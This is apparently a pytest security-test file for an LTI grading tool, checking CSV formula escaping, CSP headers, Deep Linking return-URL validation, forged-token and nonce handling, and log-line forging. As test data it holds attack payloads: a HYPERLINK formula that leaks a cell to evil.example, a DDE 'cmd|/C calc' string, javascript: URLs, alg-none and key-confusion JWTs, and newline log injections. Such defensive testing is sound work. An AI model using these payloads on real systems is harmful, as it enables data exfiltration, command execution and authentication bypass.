"""An attacker's look at the LTI tool's doors, over real HTTP against `judge serve` and the test LMS
(tests/support/lti_platform.py): what an anonymous client, a learner with odd data in the roster and a platform
that signs a bad return URL can send.

- CSV cells a spreadsheet would run as formulas come out as text;
- every page carries a Content-Security-Policy without inline script, ``form-action`` where it must post;
- a Deep Linking return URL that is not https (http on loopback) is refused before the picker;
- a forged id_token cannot spend a real launch's nonce; the login, open to anyone, writes no row;
- log lines cannot be forged with a newline in an unsigned token or a login parameter.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sqlite3
import time

import httpx
import jwt
import pytest

from tests.support.lti_client import launch, start_launch
from tests.support.lti_platform import CLIENT_ID, DEPLOYMENT, KID, LoopbackPlatform, new_key
from tests.support.service import Server

MEMBERSHIP = "http://purl.imsglobal.org/vocab/lis/v2/membership#"
INSTRUCTOR, LEARNER = [MEMBERSHIP + "Instructor"], [MEMBERSHIP + "Learner"]


TOOL_ENV = {"JUDGE_LEARN_CODES": "ml101:open-sesame"}


def _csrf(page: str) -> str:
    return re.search(r'<meta name="csrf-token" content="([^"]+)">', page).group(1)


def _teacher(platform: LoopbackPlatform, server: Server, course: str) -> tuple[httpx.Client, str]:
    browser, action, fields = start_launch(platform, server, "teacher", roles=INSTRUCTOR, course=course)
    answer = browser.post(action, data=fields)
    assert answer.status_code == 303 and answer.headers["location"].startswith("/lti/teacher/"), answer.text
    return browser, _csrf(browser.get(answer.headers["location"]).text)


# -- CSV formula injection ------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1"]


def test_roster_names_never_become_formulas_in_the_csv(platform, server):
    platform.members["course-csv"] = [{"user_id": f"=u{i}()", "name": name, "roles": LEARNER}
                                      for i, name in enumerate(FORMULAS)]
    browser, csrf = _teacher(platform, server, "course-csv")
    answer = browser.get("/lti/api/class.csv", headers={"X-CSRF-Token": csrf})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) == 1 + len(FORMULAS)
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet runs: {live}"
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted("'" + name for name in FORMULAS), "the names are kept, as text"


# -- Content-Security-Policy and the Deep Linking return URL ----------------------------------------------
def _policy(answer: httpx.Response) -> dict[str, str]:
    text = answer.headers.get("content-security-policy")
    assert text, f"{answer.request.url.path} ({answer.status_code}) has no Content-Security-Policy"
    return {d.split()[0]: d.split(None, 1)[1] if " " in d.strip() else "" for d in
            (p.strip() for p in text.split(";")) if d}


def _strict(answer: httpx.Response, form_action: str) -> None:
    policy = _policy(answer)
    assert "unsafe-inline" not in answer.headers["content-security-policy"]
    assert policy["script-src"] == "'self'" and policy["default-src"] == "'none'", policy
    assert policy["form-action"] == form_action, (answer.request.url.path, policy)
    assert "<script>" not in answer.text and " style=" not in answer.text and "javascript:" not in answer.text


def test_every_page_has_a_policy_without_inline_script(platform, server):
    for user, roles, where in (("csp-learner", LEARNER, "/lti/page/"), ("csp-teacher", INSTRUCTOR, "/lti/teacher/")):
        browser, action, fields = start_launch(platform, server, user, roles=roles)
        location = browser.post(action, data=fields).headers["location"]
        assert location.startswith(where)
        _strict(browser.get(location), "'none'")
    anonymous = httpx.Client(base_url=server.url, timeout=30)
    _strict(anonymous.get("/lti/page/0123456789abcdef"), "'none'")  # an error page
    _strict(anonymous.get("/lti/login", params={"iss": "https://nowhere.example"}), "'none'")
    check = anonymous.get("/lti/login", params=platform.login_params("csp-x"))  # the cookie check, in a frame
    _strict(check, "'none'")
    assert 'src="/lti/static/cookiecheck.js"' in check.text and "lti1p3_new_window=1" in check.text
    _strict(anonymous.get("/learn/sinusoidal-pe"), "'self'")
    _strict(anonymous.post("/learn/sinusoidal-pe", data={"course": "ml101", "code": "nope", "name": "x"}), "'self'")
    browser, action, fields = start_launch(platform, server, "csp-t", roles=INSTRUCTOR,
                                           message_type="LtiDeepLinkingRequest", problem=None)
    picker = browser.post(action, data=fields)
    _strict(picker, "'self'")
    form = re.search(r'<form method="post" action="([^"]+)"', picker.text).group(1)
    token = re.search(r'name="csrf" value="([^"]+)"', picker.text).group(1)
    back = browser.post(form, data={"problem": "sinusoidal-pe", "csrf": token})
    _strict(back, platform.url)  # the auto-posting answer may post to the platform only
    assert 'src="/lti/static/autopost.js"' in back.text


@pytest.mark.parametrize("return_url", [
    "javascript:alert(document.domain)", "JavaScript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "http://lms.example.edu/deep_link_return", "https:///nohost",
    "vbscript:msgbox(1)"])
def test_a_deep_link_return_url_that_is_not_https_is_refused(platform, server, return_url):
    browser, action, fields = start_launch(platform, server, "dl-t", roles=INSTRUCTOR,
                                           message_type="LtiDeepLinkingRequest", problem=None, return_url=return_url)
    answer = browser.post(action, data=fields)
    assert answer.status_code == 400 and "https" in answer.text, answer.text
    assert 'name="problem"' not in answer.text, "no picker for a return URL the answer cannot go to"


# -- nonces and the rows an anonymous client can make ---------------------------------------------------------
def _b64(part: str) -> dict:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def test_a_forged_id_token_cannot_spend_a_real_launchs_nonce(platform, server):
    """The attacker learns a real launch's nonce (it travels in URLs) and posts an id_token of their own making
    with it, signed by another key, from their own browser (their own state cookie): the real launch still works."""
    victim, action, fields = start_launch(platform, server, "victim")
    claims = _b64(fields["id_token"].split(".")[1])
    forged_claims = {**claims, "sub": "attacker", "exp": int(time.time()) + 300}
    attacker = httpx.Client(base_url=server.url, timeout=30)
    for token in (
        jwt.encode(forged_claims, new_key(), algorithm="RS256", headers={"kid": KID}),
        jwt.encode(forged_claims, None, algorithm="none"),
        jwt.encode(forged_claims, "an-hmac-key-guessed-by-the-attacker-0123", algorithm="HS256", headers={"kid": KID}),
    ):
        attacker.cookies.set("lti1p3-state-attacker", "state-attacker")
        refused = attacker.post(action, data={"id_token": token, "state": "state-attacker"})
        assert refused.status_code in (400, 403), refused.text
    answer = victim.post(action, data=fields)
    assert answer.status_code == 303, f"the real launch failed after a forged one: {answer.text}"
    again = victim.post(action, data=fields)
    assert again.status_code == 403 and "nonce" in again.text.lower(), "and its nonce is still single-use"


def test_a_nonce_the_tool_never_issued_is_refused(platform, server):
    """The platform signs whatever nonce it is given: one the tool did not mint (or too old) is refused."""
    browser, action, fields = start_launch(platform, server, "nonce-x")
    claims = _b64(fields["id_token"].split(".")[1])
    for nonce in ("made-up", claims["nonce"].rsplit(".", 1)[0] + ".0000", f"{int(time.time()) - 3600}.x.y"):
        token = jwt.encode({**claims, "nonce": nonce}, platform.key, algorithm="RS256", headers={"kid": KID})
        answer = browser.post(action, data={**fields, "id_token": token})
        assert answer.status_code == 403 and "nonce" in answer.text.lower(), answer.text


def _rows(server: Server, table: str) -> int:
    with sqlite3.connect(server.log_path.parent / "judge.sqlite3") as db:
        return db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


def test_anonymous_logins_write_no_row(platform, server):
    before = _rows(server, "judge_lti_kv")
    anonymous = httpx.Client(base_url=server.url, timeout=30)
    for i in range(200):
        answer = anonymous.get("/lti/login", params={**platform.login_params(f"anon-{i}"), "lti1p3_new_window": "1"})
        assert answer.status_code == 302
    assert _rows(server, "judge_lti_kv") == before, "a login writes nothing before a signed launch"
    browser, _ = launch(platform, server, "after-logins")  # and launches still work
    assert browser.page


# -- log lines cannot be forged -------------------------------------------------------------------------------
FORGED = "2031-01-01 00:00:00,000 CRITICAL judge.service: FORGED-LINE admin signed in"


def test_newlines_from_clients_cannot_write_log_lines(platform, server):
    anonymous = httpx.Client(base_url=server.url, timeout=30)
    anonymous.get("/lti/login", params={"iss": f"https://x.example\n{FORGED}\r\n", "login_hint": "u",
                                        "lti1p3_new_window": "1"})
    body = {"iss": f"https://y.example\n{FORGED}", "aud": CLIENT_ID, "sub": f"u\n{FORGED}", "nonce": "n",
            "https://purl.imsglobal.org/spec/lti/claim/deployment_id": f"{DEPLOYMENT}\n{FORGED}"}
    unsigned = jwt.encode(body, None, algorithm="none")
    anonymous.cookies.set("lti1p3-state-s", "state-s")
    anonymous.post("/lti/launch", data={"id_token": unsigned, "state": "state-s"})
    anonymous.post("/lti/launch", data={"id_token": unsigned, "state": f"x\n{FORGED}"})
    anonymous.post("/learn/sinusoidal-pe", data={"course": f"ml101\n{FORGED}", "code": "x", "name": "y"})
    log = server.output()
    assert "FORGED-LINE" in log, "the attempts were logged"
    forged = [line for line in log.splitlines() if line.lstrip().startswith("2031-01-01") or line.startswith("FORGED")]
    assert not forged, forged
    assert "\\nFORGED" in log or "\\n2031-01-01" in log, "the newline is written as an escape"
